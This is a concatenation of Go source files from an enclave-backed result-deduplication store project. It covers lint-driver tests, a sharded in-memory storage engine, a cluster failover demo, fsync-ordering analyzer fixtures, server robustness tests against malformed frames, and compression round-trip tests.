	for _, name := range []string{"enclaveboundary", "keyzero", "atomicmix", "deadline", "wiresym"} {
		if !strings.Contains(out, name) {
			t.Errorf("-list output missing analyzer %s:\n%s", name, out)
		}
	}
}

// TestRepoIsClean pins the acceptance criterion: the suite must exit 0
// on this repository.
func TestRepoIsClean(t *testing.T) {
	if testing.Short() {
		t.Skip("loads the whole module")
	}
	var stdout, stderr bytes.Buffer
	if code := run([]string{"./..."}, &stdout, &stderr); code != 0 {
		t.Fatalf("speedlint ./... exited %d\nstdout:\n%s\nstderr:\n%s", code, stdout.String(), stderr.String())
	}
	if stdout.Len() != 0 {
		t.Errorf("expected no findings, got:\n%s", stdout.String())
	}
}

func TestBadPattern(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if code := run([]string{"./no/such/dir"}, &stdout, &stderr); code != 2 {
		t.Fatalf("bad pattern exited %d, want 2", code)
	}
}

// TestJSONFindings runs the driver against a throwaway module with one
// deliberate violation and checks the exit code and -json line format.
func TestJSONFindings(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, filepath.Join(dir, "go.mod"), "module fixmod\n\ngo 1.22\n")
	writeFile(t, filepath.Join(dir, "a.go"), `package a

import "sync/atomic"

var hits int64

func inc() { atomic.AddInt64(&hits, 1) }

func read() int64 { return hits }
`)

	cwd, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Chdir(dir); err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := os.Chdir(cwd); err != nil {
			t.Fatal(err)
		}
	}()

	var stdout, stderr bytes.Buffer
	if code := run([]string{"-json", "./..."}, &stdout, &stderr); code != 1 {
		t.Fatalf("exited %d, want 1; stderr: %s", code, stderr.String())
	}
	lines := strings.Split(strings.TrimSpace(stdout.String()), "\n")
	if len(lines) != 1 {
		t.Fatalf("want exactly 1 finding, got %d:\n%s", len(lines), stdout.String())
	}
	var d struct {
		File     string `json:"file"`
		Line     int    `json:"line"`
		Analyzer string `json:"analyzer"`
		Message  string `json:"message"`
	}
	if err := json.Unmarshal([]byte(lines[0]), &d); err != nil {
		t.Fatalf("finding is not valid JSON: %q: %v", lines[0], err)
	}
	if d.Analyzer != "atomicmix" || d.Line != 9 || !strings.Contains(d.Message, "non-atomic access") {
		t.Errorf("unexpected finding: %+v", d)
	}
}

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}
