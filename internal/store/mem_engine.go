package store

import (
	"container/list"
	"crypto/subtle"
	"encoding/binary"
	"fmt"
	"math/bits"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"speed/internal/enclave"
	"speed/internal/mle"
	storeengine "speed/internal/store/engine"
	"speed/internal/telemetry"
)

// memEngine is the default storage engine: the original lock-striped
// sharded dictionary with a global LRU, entirely in (enclave) memory
// and volatile across restarts. Its behavior is the pre-seam Store's,
// byte for byte: the same ECall pattern (one per GET, two per PUT),
// the same enclave Alloc/Free charging per entry, the same oblivious
// all-shard scan, and the same globally-least-recent eviction victim.
type memEngine struct {
	enclave   *enclave.Enclave
	blobs     BlobStore
	oblivious bool
	ttl       time.Duration
	now       func() time.Time

	shards    []*shard
	shardMask uint32

	// Global occupancy accounting, shared by all shards: the dictionary
	// entry count and the resident ciphertext bytes.
	entries   atomic.Int64
	blobTotal atomic.Int64

	closed atomic.Bool
}

var _ storeengine.Engine = (*memEngine)(nil)

// entry is the small in-enclave dictionary record: the challenge r, the
// wrapped key [k], and a pointer to the out-of-enclave ciphertext
// (Section IV-B: "the dictionary entry is designed to be small").
type entry struct {
	challenge  []byte
	wrappedKey []byte
	blobID     BlobID
	blobSize   int64
	owner      enclave.Measurement
	hits       int64
	lastTouch  time.Time
	lruElem    *list.Element
}

func (e *entry) enclaveBytes() int64 {
	return entryOverhead + int64(len(e.challenge)+len(e.wrappedKey))
}

// shard is one lock stripe of the dictionary: its own map and LRU
// list, so GETs and PUTs for different tags proceed in parallel on
// different cores.
type shard struct {
	mu   sync.Mutex
	dict map[mle.Tag]*entry
	lru  *list.List // front = most recent; values are mle.Tag
}

// newMemEngine builds the sharded in-memory engine. shards is rounded
// up to a power of two as before.
func newMemEngine(enc *enclave.Enclave, blobs BlobStore, shards int, oblivious bool, ttl time.Duration, now func() time.Time) *memEngine {
	n := shards
	if n <= 0 {
		n = defaultShards
	}
	if n > maxShards {
		n = maxShards
	}
	if n&(n-1) != 0 {
		n = 1 << bits.Len(uint(n)) // round up to a power of two
	}
	m := &memEngine{
		enclave:   enc,
		blobs:     blobs,
		oblivious: oblivious,
		ttl:       ttl,
		now:       now,
		shards:    make([]*shard, n),
		shardMask: uint32(n - 1),
	}
	for i := range m.shards {
		m.shards[i] = &shard{dict: make(map[mle.Tag]*entry), lru: list.New()}
	}
	return m
}

func (m *memEngine) Name() string  { return "memory" }
func (m *memEngine) Durable() bool { return false }

// shardFor selects a tag's home shard. Tags are outputs of a
// cryptographic hash, so any fixed window of bits is uniform.
func (m *memEngine) shardFor(tag mle.Tag) *shard {
	return m.shards[binary.BigEndian.Uint32(tag[:4])&m.shardMask]
}

// ShardCount reports the number of dictionary shards.
func (m *memEngine) ShardCount() int { return len(m.shards) }

// expiredLocked reports whether the entry is past its TTL. Caller
// holds the entry's shard lock.
func (m *memEngine) expiredLocked(e *entry) bool {
	return m.ttl > 0 && m.now().Sub(e.lastTouch) > m.ttl
}

// Get implements engine.Engine. The dictionary access happens inside
// the store enclave (one ECALL); the ciphertext is fetched from
// untrusted storage outside.
func (m *memEngine) Get(tag mle.Tag) (storeengine.Record, storeengine.GetStatus, error) {
	var (
		rec     storeengine.Record
		found   bool
		expired bool
		blobID  BlobID
	)
	err := m.enclave.ECall(func() error {
		if m.closed.Load() {
			return ErrClosed
		}
		if m.oblivious {
			// Scan every shard with identical per-entry work so the
			// access pattern reveals neither the entry nor the shard.
			home := m.shardFor(tag)
			for _, sh := range m.shards {
				sh.mu.Lock()
				e := obliviousLookupLocked(sh, tag)
				if sh == home && e != nil {
					if m.expiredLocked(e) {
						expired = true
					} else {
						found = true
						e.hits++
						rec = m.recordLocked(e)
						blobID = e.blobID
					}
				}
				sh.mu.Unlock()
			}
			return nil
		}
		sh := m.shardFor(tag)
		sh.mu.Lock()
		defer sh.mu.Unlock()
		e, ok := sh.dict[tag]
		if !ok {
			return nil
		}
		if m.expiredLocked(e) {
			// Leave the stale entry for the caller to collect lazily.
			expired = true
			return nil
		}
		found = true
		e.hits++
		// LRU maintenance and freshness updates reveal which entry was
		// touched; they only run in the non-oblivious path.
		sh.lru.MoveToFront(e.lruElem)
		e.lastTouch = m.now()
		rec = m.recordLocked(e)
		blobID = e.blobID
		return nil
	})
	if err != nil {
		return storeengine.Record{}, storeengine.StatusMiss, err
	}
	if expired {
		return storeengine.Record{}, storeengine.StatusExpired, nil
	}
	if !found {
		return storeengine.Record{}, storeengine.StatusMiss, nil
	}
	blob, err := m.blobs.Get(blobID)
	if err != nil {
		// The untrusted storage lost or corrupted the blob; the caller
		// drops the dangling entry and treats the lookup as a miss (the
		// application would reject the result at verification anyway).
		return storeengine.Record{}, storeengine.StatusDangling, nil
	}
	rec.Blob = blob
	return rec, storeengine.StatusHit, nil
}

// Contains implements engine.Engine: a pure existence probe with no
// hit count, LRU or freshness side effects. It answers inside the
// enclave like Get's dictionary access; when the engine is oblivious
// it reuses the all-shard constant-work scan so probes are as
// access-pattern-uniform as lookups.
func (m *memEngine) Contains(tag mle.Tag) (bool, error) {
	var present bool
	err := m.enclave.ECall(func() error {
		if m.closed.Load() {
			return ErrClosed
		}
		if m.oblivious {
			home := m.shardFor(tag)
			for _, sh := range m.shards {
				sh.mu.Lock()
				e := obliviousLookupLocked(sh, tag)
				if sh == home && e != nil && !m.expiredLocked(e) {
					present = true
				}
				sh.mu.Unlock()
			}
			return nil
		}
		sh := m.shardFor(tag)
		sh.mu.Lock()
		defer sh.mu.Unlock()
		if e, ok := sh.dict[tag]; ok && !m.expiredLocked(e) {
			present = true
		}
		return nil
	})
	if err != nil {
		return false, err
	}
	return present, nil
}

// recordLocked copies an entry's metadata out; caller holds the shard
// lock. The blob is fetched separately, outside the enclave.
func (m *memEngine) recordLocked(e *entry) storeengine.Record {
	return storeengine.Record{
		Challenge:  append([]byte(nil), e.challenge...),
		WrappedKey: append([]byte(nil), e.wrappedKey...),
		BlobSize:   e.blobSize,
		Owner:      e.owner,
		Hits:       e.hits,
		LastTouch:  e.lastTouch,
	}
}

// Insert implements engine.Engine, preserving the pre-seam PUT
// sequence: duplicate-check first under the shard lock (inside the
// enclave); only store the blob outside if this is a fresh tag; then
// insert under the lock again, cleaning up if a concurrent identical
// PUT won the race.
func (m *memEngine) Insert(tag mle.Tag, rec storeengine.Record) (bool, error) {
	sh := m.shardFor(tag)
	dupe := false
	err := m.enclave.ECall(func() error {
		sh.mu.Lock()
		defer sh.mu.Unlock()
		if m.closed.Load() {
			return ErrClosed
		}
		if _, ok := sh.dict[tag]; ok {
			dupe = true
		}
		return nil
	})
	if err != nil {
		return false, err
	}
	if dupe {
		return false, nil
	}

	blobID, err := m.blobs.Put(rec.Blob)
	if err != nil {
		return false, fmt.Errorf("store blob: %w", err)
	}

	e := &entry{
		challenge:  append([]byte(nil), rec.Challenge...),
		wrappedKey: append([]byte(nil), rec.WrappedKey...),
		blobID:     blobID,
		blobSize:   int64(len(rec.Blob)),
		owner:      rec.Owner,
		hits:       rec.Hits,
		lastTouch:  rec.LastTouch,
	}
	if err := m.enclave.Alloc(e.enclaveBytes()); err != nil {
		_ = m.blobs.Delete(blobID)
		return false, fmt.Errorf("metadata allocation: %w", err)
	}

	err = m.enclave.ECall(func() error {
		sh.mu.Lock()
		defer sh.mu.Unlock()
		if m.closed.Load() {
			return ErrClosed
		}
		if _, ok := sh.dict[tag]; ok {
			// Lost a race with a concurrent identical PUT.
			dupe = true
			return nil
		}
		e.lruElem = sh.lru.PushFront(tag)
		sh.dict[tag] = e
		m.entries.Add(1)
		m.blobTotal.Add(e.blobSize)
		return nil
	})
	if err != nil || dupe {
		_ = m.blobs.Delete(blobID)
		m.enclave.Free(e.enclaveBytes())
		return false, err
	}
	return true, nil
}

// Remove implements engine.Engine: it deletes the entry, releasing its
// enclave memory and blob, and returns the removed record's metadata
// so the caller can settle quota accounting.
func (m *memEngine) Remove(tag mle.Tag) (storeengine.Record, bool, error) {
	sh := m.shardFor(tag)
	sh.mu.Lock()
	e, ok := sh.dict[tag]
	if ok {
		delete(sh.dict, tag)
		sh.lru.Remove(e.lruElem)
		m.entries.Add(-1)
		m.blobTotal.Add(-e.blobSize)
	}
	sh.mu.Unlock()
	if !ok {
		return storeengine.Record{}, false, nil
	}
	m.enclave.Free(e.enclaveBytes())
	_ = m.blobs.Delete(e.blobID)
	return storeengine.Record{
		BlobSize:  e.blobSize,
		Owner:     e.owner,
		Hits:      e.hits,
		LastTouch: e.lastTouch,
	}, true, nil
}

// Len implements engine.Engine.
func (m *memEngine) Len() int { return int(m.entries.Load()) }

// ValueBytes implements engine.Engine. It reports what the blob store
// holds, as the pre-seam Stats did.
func (m *memEngine) ValueBytes() int64 { return m.blobs.Bytes() }

// Iterate implements engine.Engine. Memory stays bounded by one
// shard's metadata plus one blob: each shard's references are copied
// under its lock, then blobs are fetched and records yielded outside
// the lock (an entry racing with eviction is skipped).
func (m *memEngine) Iterate(fn func(tag mle.Tag, rec storeengine.Record) bool) error {
	type ref struct {
		tag mle.Tag
		rec storeengine.Record
		id  BlobID
	}
	var refs []ref // reused across shards
	for _, sh := range m.shards {
		refs = refs[:0]
		err := m.enclave.ECall(func() error {
			sh.mu.Lock()
			defer sh.mu.Unlock()
			for tag, e := range sh.dict {
				refs = append(refs, ref{tag: tag, rec: m.recordLocked(e), id: e.blobID})
			}
			return nil
		})
		if err != nil {
			return err
		}
		for _, r := range refs {
			blob, err := m.blobs.Get(r.id)
			if err != nil {
				continue // entry raced with eviction
			}
			r.rec.Blob = blob
			if !fn(r.tag, r.rec) {
				return nil
			}
		}
	}
	return nil
}

// Oldest implements engine.Engine: each shard's LRU tail is its local
// least-recent entry, and lastTouch orders the tails globally.
func (m *memEngine) Oldest() (mle.Tag, bool) {
	var (
		best  mle.Tag
		bestT time.Time
		found bool
	)
	for _, sh := range m.shards {
		sh.mu.Lock()
		if el := sh.lru.Back(); el != nil {
			if tag, ok := el.Value.(mle.Tag); ok {
				e := sh.dict[tag]
				if e != nil && (!found || e.lastTouch.Before(bestT)) {
					best, bestT, found = tag, e.lastTouch, true
				}
			}
		}
		sh.mu.Unlock()
	}
	return best, found
}

// Stats implements engine.Engine.
func (m *memEngine) Stats() storeengine.Stats {
	return storeengine.Stats{
		Entries:    m.Len(),
		ValueBytes: m.ValueBytes(),
	}
}

// Checkpoint implements engine.Engine; the memory engine has nothing
// to make durable.
func (m *memEngine) Checkpoint() error { return nil }

// Close implements engine.Engine. As before the seam, closing only
// marks the engine: Get/Insert fail with ErrClosed while Iterate and
// Oldest keep working, so a final Export or snapshot is still
// possible via the structures that remain in memory.
func (m *memEngine) Close() error {
	m.closed.Store(true)
	return nil
}

// RegisterTelemetry adds the memory engine's per-shard occupancy
// gauges, preserving the pre-seam speed_store_shard_entries metric.
func (m *memEngine) RegisterTelemetry(reg *telemetry.Registry) {
	for i := range m.shards {
		sh := m.shards[i]
		reg.NewGaugeFunc("speed_store_shard_entries", "dictionary entries per shard",
			func() float64 {
				sh.mu.Lock()
				n := len(sh.dict)
				sh.mu.Unlock()
				return float64(n)
			}, telemetry.L("shard", strconv.Itoa(i)))
	}
}

// obliviousLookupLocked scans every entry of one shard with a
// constant-time tag comparison, doing identical work for every entry
// regardless of where (or whether) the tag matches. Caller holds the
// shard lock inside the store enclave.
func obliviousLookupLocked(sh *shard, tag mle.Tag) *entry {
	var found *entry
	for k := range sh.dict {
		k := k
		match := subtle.ConstantTimeCompare(k[:], tag[:])
		// Branchless-ish select: always read the entry, conditionally
		// retain it.
		e := sh.dict[k]
		if match == 1 {
			found = e
		}
	}
	return found
}
