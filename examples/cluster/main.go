// Cluster: demonstrates the multi-node ResultStore tier — three store
// servers behind a consistent-hash ring, an application Runtime routing
// GET/PUT traffic through the cluster client with replication, a member
// killed mid-run with zero failed calls, and the wire-level syncer
// placing popular results on their ring owners.
//
// Everything runs in one process for the demo, but each member is a
// real resultstore server behind a real TCP listener — the same
// deployment as three `resultstore` processes on three machines.
package main

import (
	"fmt"
	"net"
	"os"
	"time"

	"speed/internal/cluster"
	"speed/internal/dedup"
	"speed/internal/enclave"
	"speed/internal/store"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "cluster:", err)
		os.Exit(1)
	}
}

func run() error {
	platform := enclave.NewPlatform(enclave.Config{})
	appEnc, err := platform.Create("demo-app", []byte("demo app v1"))
	if err != nil {
		return err
	}

	// Three members, all running the same store code: distinct enclave
	// names, one shared measurement for the client to pin.
	storeCode := []byte("resultstore v1")
	var (
		addrs     []string
		servers   []*store.Server
		storeMeas enclave.Measurement
	)
	for i := 0; i < 3; i++ {
		enc, err := platform.Create(fmt.Sprintf("resultstore-%d", i), storeCode)
		if err != nil {
			return err
		}
		storeMeas = enc.Measurement()
		st, err := store.New(store.Config{Enclave: enc})
		if err != nil {
			return err
		}
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return err
		}
		srv := store.NewServer(st, ln, store.WithLogf(func(string, ...any) {}))
		go func() { _ = srv.Serve() }()
		servers = append(servers, srv)
		addrs = append(addrs, ln.Addr().String())
	}
	defer func() {
		for _, srv := range servers {
			_ = srv.Close()
		}
	}()
	fmt.Printf("ring members: %v (measurement %x...)\n", addrs, storeMeas[:4])

	client, err := cluster.New(cluster.Config{
		Nodes:            addrs,
		Replicas:         2,
		App:              appEnc,
		StoreMeasurement: storeMeas,
		FailThreshold:    2,
		ProbeInterval:    25 * time.Millisecond,
		Logf:             func(format string, args ...any) { fmt.Printf("  [cluster] "+format+"\n", args...) },
		Remote: dedup.RemoteConfig{
			RequestTimeout: time.Second,
			MaxRetries:     -1, // fail fast; the router's failover is the retry
		},
	})
	if err != nil {
		return err
	}
	defer client.Close()

	rt, err := dedup.NewRuntime(dedup.Config{Enclave: appEnc, Client: client})
	if err != nil {
		return err
	}
	defer rt.Close()
	rt.Registry().RegisterLibrary("imglib", "2.0", []byte("imglib code"))
	id, err := rt.Resolve(dedup.FuncDesc{Library: "imglib", Version: "2.0", Signature: "thumbnail(img)"})
	if err != nil {
		return err
	}
	thumbnail := func(in []byte) ([]byte, error) {
		time.Sleep(2 * time.Millisecond) // pretend this is expensive
		return append([]byte("thumb:"), in...), nil
	}

	inputs := make([][]byte, 16)
	for i := range inputs {
		inputs[i] = []byte(fmt.Sprintf("image-%d.png", i))
	}
	pass := func(name string) error {
		before := rt.Stats()
		start := time.Now()
		results, err := rt.ExecuteBatch(id, inputs, thumbnail)
		if err != nil {
			return err
		}
		failed := 0
		for _, r := range results {
			if r.Err != nil {
				failed++
			}
		}
		after := rt.Stats()
		fmt.Printf("%-28s reused=%2d computed=%2d failed=%d nodes_up=%d in %s\n",
			name+":", after.Reused-before.Reused, after.Computed-before.Computed,
			failed, client.NodesUp(), time.Since(start).Round(time.Millisecond))
		return nil
	}

	if err := pass("first pass (all fresh)"); err != nil {
		return err
	}
	if err := pass("second pass (ring hits)"); err != nil {
		return err
	}

	// Kill one member. Every tag keeps a live replica, so every call
	// keeps succeeding; the router fails over and marks the member down.
	fmt.Printf("\nkilling member %s\n", addrs[0])
	if err := servers[0].Close(); err != nil {
		return err
	}
	if err := pass("after kill (failover)"); err != nil {
		return err
	}
	if err := pass("steady state (2 members)"); err != nil {
		return err
	}
	fmt.Printf("failovers=%d read_repairs=%d\n", client.Failovers(), client.ReadRepairs())

	// The syncer pulls popular results over the wire and re-places them
	// on their ring owners — the Section IV-B master-store sync,
	// generalized to the partitioned tier.
	syncer := cluster.NewSyncer(client, cluster.SyncConfig{MinHits: 2})
	copied, err := syncer.SyncOnce()
	if err != nil {
		return err
	}
	fmt.Printf("syncer: placed %d popular results on their ring owners\n", copied)
	return nil
}
