// Package store exercises the fsyncorder analyzer: the
// write→fsync→rename→dirsync commit discipline, the segment-then-
// commit ordering, and acknowledged-but-unsynced writes.
package store

import "os"

func syncDir(dir string) error {
	d, err := os.Open(dir)
	if err != nil {
		return err
	}
	if err := d.Sync(); err != nil {
		d.Close()
		return err
	}
	return d.Close()
}

// commitGood is the full durable sequence: clean.
func commitGood(tmp, final string, data []byte) error {
	f, err := os.Create(tmp)
	if err != nil {
		return err
	}
	if _, err := f.Write(data); err != nil {
		f.Close()
		return err
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	if err := os.Rename(tmp, final); err != nil {
		return err
	}
	return syncDir(".")
}

// renameUnsynced renames before the file content is fsynced.
func renameUnsynced(tmp, final string, data []byte) error {
	f, err := os.Create(tmp)
	if err != nil {
		return err
	}
	f.Write(data)
	f.Close()
	if err := os.Rename(tmp, final); err != nil { // want `os.Rename commit is not preceded by a file fsync`
		return err
	}
	return syncDir(".")
}

// renameNoDirSync leaves the directory entry volatile after the
// rename.
func renameNoDirSync(tmp, final string, data []byte) error {
	f, err := os.Create(tmp)
	if err != nil {
		return err
	}
	f.Write(data)
	f.Sync()
	f.Close()
	if err := os.Rename(tmp, final); err != nil {
		return err
	}
	return nil // want `success path after os.Rename returns without a directory fsync`
}

// ackUnsynced acknowledges a write that may still be in the page
// cache.
func ackUnsynced(path string, data []byte) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if _, err := f.Write(data); err != nil {
		f.Close()
		return err
	}
	f.Close()
	return nil // want `not fsynced before this success return`
}

// writeSegment has the segment-writer shape: writes and syncs the
// file, but the directory entry is the caller's problem.
func writeSegment(path string, data []byte) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if _, err := f.Write(data); err != nil {
		f.Close()
		return err
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// commitManifest is a full durable commit helper (write, sync, rename,
// dirsync): calls to it count as commit points.
func commitManifest(tmp, final string, data []byte) error {
	f, err := os.Create(tmp)
	if err != nil {
		return err
	}
	if _, err := f.Write(data); err != nil {
		f.Close()
		return err
	}
	if err := f.Sync(); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	if err := os.Rename(tmp, final); err != nil {
		return err
	}
	return syncDir(".")
}

// flushNoDirSync commits a manifest that points at a segment whose
// directory entry was never synced.
func flushNoDirSync(dir string, data []byte) error {
	if err := writeSegment(dir+"/seg", data); err != nil {
		return err
	}
	return commitManifest(dir+"/m.tmp", dir+"/m", data) // want `commit call follows a segment write without an intervening directory fsync`
}

// flushGood syncs the directory between segment write and commit:
// clean.
func flushGood(dir string, data []byte) error {
	if err := writeSegment(dir+"/seg", data); err != nil {
		return err
	}
	if err := syncDir(dir); err != nil {
		return err
	}
	return commitManifest(dir+"/m.tmp", dir+"/m", data)
}
