package store

import (
	"bytes"
	"encoding/binary"
	"net"
	"sync"
	"testing"
	"time"

	"speed/internal/enclave"
	"speed/internal/wire"
)

// Robustness of the networked store against misbehaving peers: the
// server must shed garbage, oversized frames and half-open connections
// without crashing or wedging, and keep serving honest clients.

func startRobustServer(t *testing.T) (*Server, *enclave.Platform, *enclave.Enclave) {
	t.Helper()
	p := enclave.NewPlatform(enclave.Config{})
	storeEnc, err := p.Create("store", []byte("store code"))
	if err != nil {
		t.Fatalf("create store enclave: %v", err)
	}
	st, err := New(Config{Enclave: storeEnc})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("Listen: %v", err)
	}
	srv := NewServer(st, ln, WithLogf(func(string, ...any) {}))
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		_ = srv.Serve()
	}()
	t.Cleanup(func() {
		_ = srv.Close()
		wg.Wait()
	})
	return srv, p, storeEnc
}

func TestServerShedsGarbageConnections(t *testing.T) {
	srv, p, storeEnc := startRobustServer(t)

	attacks := [][]byte{
		[]byte("GET / HTTP/1.1\r\n\r\n"),                 // wrong protocol
		{0xFF, 0xFF, 0xFF, 0xFF},                         // oversized frame header
		{0x00, 0x00, 0x00, 0x04, 0xDE, 0xAD, 0xBE, 0xEF}, // garbage report
		{}, // immediate close
	}
	for i, payload := range attacks {
		conn, err := net.Dial("tcp", srv.Addr().String())
		if err != nil {
			t.Fatalf("attack %d dial: %v", i, err)
		}
		if len(payload) > 0 {
			_, _ = conn.Write(payload)
		}
		conn.Close()
	}

	// A half-open connection: handshake never completes. The server
	// must still serve an honest client concurrently.
	half, err := net.Dial("tcp", srv.Addr().String())
	if err != nil {
		t.Fatalf("half-open dial: %v", err)
	}
	defer half.Close()

	appEnc, err := p.Create("honest", []byte("honest code"))
	if err != nil {
		t.Fatalf("create honest: %v", err)
	}
	conn, err := net.DialTimeout("tcp", srv.Addr().String(), time.Second)
	if err != nil {
		t.Fatalf("honest dial: %v", err)
	}
	defer conn.Close()
	ch, err := wire.ClientHandshakeVersion(conn, appEnc, storeEnc.Measurement(), nil, wire.ProtocolV1)
	if err != nil {
		t.Fatalf("honest handshake after attacks: %v", err)
	}
	if err := ch.SendMessage(wire.PutRequest{Tag: tagOf("t"), Sealed: sealedOf("ok")}); err != nil {
		t.Fatalf("honest put: %v", err)
	}
	msg, err := ch.RecvMessage()
	if err != nil {
		t.Fatalf("honest reply: %v", err)
	}
	if pr, ok := msg.(wire.PutResponse); !ok || !pr.OK {
		t.Fatalf("honest reply = %#v", msg)
	}
}

func TestServerRejectsPostHandshakeGarbage(t *testing.T) {
	srv, p, storeEnc := startRobustServer(t)
	appEnc, err := p.Create("app", []byte("app code"))
	if err != nil {
		t.Fatalf("create app: %v", err)
	}
	conn, err := net.Dial("tcp", srv.Addr().String())
	if err != nil {
		t.Fatalf("dial: %v", err)
	}
	defer conn.Close()
	ch, err := wire.ClientHandshakeVersion(conn, appEnc, storeEnc.Measurement(), nil, wire.ProtocolV1)
	if err != nil {
		t.Fatalf("handshake: %v", err)
	}
	// A syntactically valid frame whose ciphertext is garbage: the
	// server drops the session; the client sees EOF/reset on the next
	// read rather than a hang.
	var hdr [4]byte
	binary.BigEndian.PutUint32(hdr[:], 16)
	_, _ = conn.Write(hdr[:])
	_, _ = conn.Write(bytes.Repeat([]byte{0xAA}, 16))

	_ = conn.SetReadDeadline(time.Now().Add(2 * time.Second))
	if _, err := ch.RecvMessage(); err == nil {
		t.Error("server kept talking after garbage ciphertext")
	}
}

func TestServerManyConcurrentClients(t *testing.T) {
	srv, p, storeEnc := startRobustServer(t)
	const clients = 16
	var wg sync.WaitGroup
	for c := 0; c < clients; c++ {
		wg.Add(1)
		go func(c int) {
			defer wg.Done()
			appEnc, err := p.Create(string(rune('a'+c))+"-app", []byte{byte(c)})
			if err != nil {
				t.Errorf("create: %v", err)
				return
			}
			conn, err := net.Dial("tcp", srv.Addr().String())
			if err != nil {
				t.Errorf("dial: %v", err)
				return
			}
			defer conn.Close()
			ch, err := wire.ClientHandshakeVersion(conn, appEnc, storeEnc.Measurement(), nil, wire.ProtocolV1)
			if err != nil {
				t.Errorf("handshake: %v", err)
				return
			}
			for i := 0; i < 20; i++ {
				tag := tagOf(string(rune('a'+c)) + string(rune(i)))
				if err := ch.SendMessage(wire.PutRequest{Tag: tag, Sealed: sealedOf("v")}); err != nil {
					t.Errorf("put: %v", err)
					return
				}
				if _, err := ch.RecvMessage(); err != nil {
					t.Errorf("put reply: %v", err)
					return
				}
				if err := ch.SendMessage(wire.GetRequest{Tag: tag}); err != nil {
					t.Errorf("get: %v", err)
					return
				}
				msg, err := ch.RecvMessage()
				if err != nil {
					t.Errorf("get reply: %v", err)
					return
				}
				if gr, ok := msg.(wire.GetResponse); !ok || !gr.Found {
					t.Errorf("get reply = %#v", msg)
					return
				}
			}
		}(c)
	}
	wg.Wait()
}
