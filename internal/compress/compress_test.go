package compress

import (
	"bytes"
	"math/rand"
	"strings"
	"testing"
	"testing/quick"
)

func roundTrip(t *testing.T, src []byte) []byte {
	t.Helper()
	comp := Compress(src)
	got, err := Decompress(comp)
	if err != nil {
		t.Fatalf("Decompress: %v", err)
	}
	if !bytes.Equal(got, src) {
		t.Fatalf("round trip mismatch: got %d bytes, want %d", len(got), len(src))
	}
	return comp
}

func TestRoundTripBasics(t *testing.T) {
	tests := []struct {
		name string
		src  []byte
	}{
		{"empty", nil},
		{"one byte", []byte{42}},
		{"short text", []byte("hello, world")},
		{"all same", bytes.Repeat([]byte{7}, 10_000)},
		{"repeating phrase", bytes.Repeat([]byte("the quick brown fox "), 500)},
		{"all byte values", func() []byte {
			b := make([]byte, 256)
			for i := range b {
				b[i] = byte(i)
			}
			return b
		}()},
		{"binary ramp", func() []byte {
			b := make([]byte, 100_000)
			for i := range b {
				b[i] = byte(i * 7)
			}
			return b
		}()},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			roundTrip(t, tt.src)
		})
	}
}

func TestRoundTripRandom(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for _, n := range []int{1, 17, 1000, 65_537, 300_000} {
		src := make([]byte, n)
		rng.Read(src)
		roundTrip(t, src)
	}
}

func TestRoundTripLongMatches(t *testing.T) {
	// Matches at exactly minMatch, maxMatch and beyond, plus distances
	// spanning the window boundary.
	var b bytes.Buffer
	b.WriteString("abcd")                          // seed
	b.WriteString("abcd")                          // min match
	b.Write(bytes.Repeat([]byte("x"), maxMatch+5)) // run beyond max match
	b.Write(bytes.Repeat([]byte("q"), windowSize)) // push past window
	b.WriteString("abcd")                          // distance beyond window: must be literal
	roundTrip(t, b.Bytes())
}

func TestCompressesRedundantData(t *testing.T) {
	src := bytes.Repeat([]byte("SPEED deduplicates redundant computations. "), 2000)
	comp := roundTrip(t, src)
	if len(comp) >= len(src)/5 {
		t.Errorf("compressed %d -> %d, want at least 5x reduction on redundant text",
			len(src), len(comp))
	}
}

func TestIncompressibleDataOverheadBounded(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	src := make([]byte, 100_000)
	rng.Read(src)
	comp := roundTrip(t, src)
	// Worst case: flag bytes (1 per 8 literals) + header.
	if len(comp) > len(src)+len(src)/7+256 {
		t.Errorf("incompressible expansion too large: %d -> %d", len(src), len(comp))
	}
}

func TestDecompressRejectsCorruption(t *testing.T) {
	src := bytes.Repeat([]byte("some compressible content here. "), 200)
	comp := Compress(src)

	tests := []struct {
		name   string
		mutate func([]byte) []byte
	}{
		{"empty", func(b []byte) []byte { return nil }},
		{"bad magic", func(b []byte) []byte { b[0] = 'X'; return b }},
		{"bad mode", func(b []byte) []byte { b[3] = 9; return b }},
		{"truncated", func(b []byte) []byte { return b[:len(b)/2] }},
		{"flipped body bit", func(b []byte) []byte { b[len(b)-10] ^= 0x40; return b }},
		{"flipped checksum", func(b []byte) []byte { b[6] ^= 0xFF; return b }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			buf := append([]byte(nil), comp...)
			if _, err := Decompress(tt.mutate(buf)); err == nil {
				t.Error("Decompress accepted corrupted input")
			}
		})
	}
}

func TestCompressDeterministic(t *testing.T) {
	src := bytes.Repeat([]byte("determinism matters for tags. "), 300)
	if !bytes.Equal(Compress(src), Compress(src)) {
		t.Error("Compress is not deterministic")
	}
}

func TestRatio(t *testing.T) {
	if r := Ratio(nil); r != 1 {
		t.Errorf("Ratio(nil) = %v, want 1", r)
	}
	redundant := []byte(strings.Repeat("abab", 10_000))
	if r := Ratio(redundant); r < 5 {
